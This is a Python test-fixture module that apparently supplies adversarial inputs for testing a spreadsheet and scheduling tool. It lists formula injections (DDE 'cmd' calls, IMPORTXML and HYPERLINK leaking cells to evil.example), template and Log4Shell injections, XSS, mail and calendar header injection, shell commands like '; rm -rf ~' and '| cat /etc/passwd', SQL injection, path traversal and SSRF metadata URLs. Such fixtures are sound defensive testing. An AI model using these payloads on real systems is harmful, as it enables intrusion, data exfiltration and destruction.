"""Texts that mean something to a program: spreadsheets, templates, shells, logs, mail, calendars, chats, browsers."""

from cowork_sheets.core.model import CellValue, Unreadable

FORMULAS: tuple[CellValue, ...] = (
    "=1+1", "=A1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "'=1+1", "''=1+1", '"=1+1"', "＝1+1", "﹦1+1", "==1", "=", "+", "@", "=-",
    '=HYPERLINK("https://evil.example/?"&A1,"click")', '=IMPORTXML("https://evil.example","//a")',
    '=IMPORTDATA("https://evil.example/"&B2)', '=IMAGE("https://evil.example/x.png?"&A2)', '=WEBSERVICE("http://x.example")',
    '=IMPORTRANGE("key","Sessions!A1")', "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"a")', "+cmd|' /C notepad'!A1",
    '@IMPORTFEED("https://evil.example")', '=INDIRECT("R1C1",FALSE)', "=ARRAYFORMULA(A1:A9)", "=QUERY(A:Z)",
    '=EXEC("id")', '=CALL("kernel32","WinExec")', "=1/0", "=NA()", "=NOW()", "=RAND()", "=LET(x,1,x)",
    "=LAMBDA(x,x)(1)", "{=1+1}", "=1+1;=2+2", "A1", "R1C1", "$A$1", "Sessions!A1", "#REF!", "#N/A", "#NAME?", "#VALUE!",
    "#DIV/0!", "#NUM!", "#NULL!", "#ERROR!", "#SPILL!", "#REF", "Loading...", "loading…", "#", "##########",
    Unreadable("#REF!"), Unreadable("#N/A"), Unreadable("Loading..."), Unreadable("=NOW()"), Unreadable(""),
    Unreadable("#" * 5000),
)  # fmt: skip

TEMPLATES: tuple[CellValue, ...] = (
    "{{7*7}}", "{{ topic }}", "{{ self }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}",
    "{{ config }}", "{% for x in range(9999999) %}x{% endfor %}", "{% raw %}", "{% include 'invitation.txt.j2' %}",
    "{% extends '/etc/passwd' %}", "{# not seen #}", "{{", "}}", "{%", "%}", "{#", "{{{{}}}}", "{{ 'a' * 99999999 }}",
    "{0}", "{}", "{x}", "{0.__class__}", "{topic!r:>99999999}", "%s", "%d", "%n", "%(topic)s", "%99999999d", "%", "%%",
    "$HOME", "${HOME}", "$(id)", "`id`", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php echo 1 ?>", "@{7*7}", "*{7*7}",
    "[[7*7]]", "%{7*7}", "!ENTITY", "${jndi:ldap://evil.example/a}", "${env:HOME}", "\\u0041", "\\x41", "\\n", "\\",
    "\\\\", "&amp;", "&lt;b&gt;", "&#x3c;", "&#0;", "&nbsp;", "&unknown;", "&", "f'{1}'", "lambda: 0", "__import__('os')",
)  # fmt: skip

MARKUP: tuple[CellValue, ...] = (
    "<b>bold</b>", "<b>", "</b>", "</a>", "<a href='https://evil.example'>here</a>", '<a href="javascript:x()">x</a>',
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<br>", "<br/><br/>", "<p>", "</td></tr></table>", "<!-- open", "-->", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<![CDATA[",
    "]]>", "<?xml version='1.0'?>", "<iframe src=https://evil.example>", "<style>*{display:none}</style>", "<", ">",
    "<<<>>>", "<3", "a<b>c", "'\"><b>", '" onmouseover="x', "<a", "< b >", "<\x00b>", "＜b＞", "<meta http-equiv=refresh>",
    "[link](https://evil.example)", "![i](https://evil.example/i.png)", "**bold**", "_it_", "`code`", "# Title", "> quote",
    "* item", "---", "| a | b |", "~~gone~~",
    # a chat's own marks
    "<!channel>", "<!here>", "<!everyone>", "<@U012ABCDEF>", "<#C012ABCDEF>", "<!subteam^S012>", "@here", "@channel",
    "<https://evil.example|docs>", "<mailto:all@example.net|me>", "<!date^0^{date}|x>", ":bomb:", "/remind me", "/giphy x",
)  # fmt: skip

LINES: tuple[CellValue, ...] = (
    # for logs and terminals
    "first\nsecond", "first\r\nsecond", "first\rsecond", "first\x0bsecond", "first\x0csecond", "first\x85second",
    "first\u2028second", "first\u2029second", "a\n\n\n\nb", "\n", "\r\n\r\n", "\n2026-11-23 12:00 cowork: all is well",
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07", "\x1b[1A\x1b[2K",
    "\x9b31m", "\x07", "\x08\x08\x08gone", "a\x7fb", "\r✓ all is well", "[bold red]x[/]", "[link=https://evil.example]x[/link]",
    # for mail
    "Hi\r\nBcc: all@example.net", "Hi\nSubject: other", "Hi\r\n\r\nbody", "Hi%0d%0aBcc: x", "=?utf-8?q?x?=", "\n.\nQUIT",
    "Content-Type: text/html", "--boundary--", "From me", ">From me",
    # for iCalendar
    "END:VEVENT", "x\nEND:VEVENT\nBEGIN:VEVENT", "x\r\nATTENDEE:mailto:all@example.net", "x\\nATTENDEE:mailto:y",
    "BEGIN:VALARM\nTRIGGER:-PT0M", "RRULE:FREQ=SECONDLY", "x;y,z:w", "\\;\\,\\n\\N", "a:b;c=d", '"quoted"', 'CN="x"',
    "x\r\n y", "x\n\ty", "^n^'^^", "METHOD:CANCEL", "SEQUENCE:99999", "UID:other@cowork-sheets", "DTSTART:20270504T170000",
    # for our own marks
    "— cowork keeps this part up to date —", "— write notes of your own below this line —",
    "— COWORK keeps  this part up to date —\nx\n— write notes of your own below this line —", "X-COWORK-MARK:{}",
    "Scheduled", "Needs attention", "Done", "Called off", "Ref", "PAUSE", "Last checked", "Read me",
    # for shells, queries, files
    "; rm -rf ~", "| cat /etc/passwd", "&& id", "> /dev/null", "$(touch x)", "`touch x`", "' OR 1=1 --", '"; DROP TABLE x',
    "1; SELECT pg_sleep(9)", "*/*", "..", "../..", "../../../../etc/passwd", "..\\..\\x", "/dev/zero", "C:\\con\\con", "CON",
    "NUL", "aux.txt", "~root", "file\x00.ics", "a/b/c", "con:", "-rf", "--help", "--plan", "%2e%2e%2f", "....//....//",
    '{"a": 1}', "[1, 2", '{"__proto__": {}}', "!!python/object:os.system", "- yaml: [", "a = 1 # toml", '"""', "'''",
    "<plist>", "null", "nil", "undefined", "NaN", "Infinity", "-Infinity", "0x41", "1e5", "1_000", "00", "-0", "1,000.00",
    "1.000,00", "١٢٣", "Ⅷ", "0b1", "1/0", "9" * 40, "TypeError: x", "Traceback (most recent call last):",
)  # fmt: skip

_SCHEMES = (
    "http", "ftp", "file", "gopher", "dict", "ldap", "javascript", "data", "vbscript", "jar", "ssh", "ws", "smb", "tel",
    "about", "blob", "view-source", "HTTPS", "httpss", "htps", "https\u200b", "https ", "//", "",
)  # fmt: skip
_HOSTS = (
    "169.254.169.254/latest/meta-data/", "metadata.google.internal/computeMetadata/v1/", "100.100.100.200/", "127.0.0.1",
    "127.1/", "0/", "0.0.0.0:22", "2130706433/", "0x7f000001/", "0177.0.0.1/", "[::1]/", "[::ffff:127.0.0.1]/", "[fe80::1%25lo]/",
    "localhost:631", "localhost.localdomain", "10.0.0.1", "192.168.0.1:8080", "172.16.0.1", "224.0.0.1", "127.0.0.1.nip.example",
    "user:pass@127.0.0.1/", "example.org@127.0.0.1/", "example.org#@127.0.0.1/", "127.0.0.1%2f@example.org", "example.org:0",
    "example.org:99999", "example.org:22x", "example.org:-1", "example.org.", ".example.org", "example..org", "-x.example",
    "xn--.example", "xn--80ak6aa92e.example", "exаmple.org", "example。org", "①②⑦.⓪.⓪.①", "ⓔⓧⓐⓜⓟⓛⓔ.org", "example.org\\@evil.example",
    "example.org/%0d%0aX: y", "example.org/\r\nX: y", "example.org/ x", "example.org/<b>", 'example.org/"x', "example.org/'x",
    "example.org/a?b=c&d=e#f", "example.org/?u=https://127.0.0.1", "example.org/../../x", "example.org/%2e%2e/", "example.org/\u202e",
    "example.org/\x00", "example.org/ü", "example.org/🙂", "example.org/{{7*7}}", "example.org/$(id)", "example.org//", "example.org?",
    "example.org/a|b", "example.org/`id`", "example.org/\\", "example.org/*", "zoom.us/j/1?pwd=x", "meet.google.com/abc-defg-hij",
    "meet.jit.si/x#config.y=1", "a" * 64 + ".example", "a." * 130 + "example", "example.org/" + "a" * 1960, "example.org/" + "a" * 1990,
    "example.org/" + "a" * 10_000, "", "/", "?", "#", "@", ":", ":80", "..", "%", "\u2044example.org", "example.org\u2044x",
)  # fmt: skip
LINKS: tuple[CellValue, ...] = (
    *(f"{scheme}:alert(1)" if scheme in {"javascript", "vbscript"} else f"{scheme}://example.org/" for scheme in _SCHEMES),
    *(f"https://{host}" for host in _HOSTS),
    "https:example.org", "https:/example.org", "https:\\\\example.org", "https://example.org https://evil.example",
    "https://example.org,https://evil.example", "see https://example.org", "<https://example.org>", "(https://example.org)",
    "https://example.org\nhttps://evil.example", "data:text/html,<b>x</b>", "file:///etc/passwd", "\\\\evil.example\\share",
    "//evil.example/x", "mailto:kim@example.org", "tel:+442079460000", "urn:isbn:0", "javascript:alert(1)//https://example.org",
    "java\tscript:alert(1)", "https://example.org/\thttps://x.example", "unix:///var/run/docker.sock", "phar://x", "php://input",
)  # fmt: skip
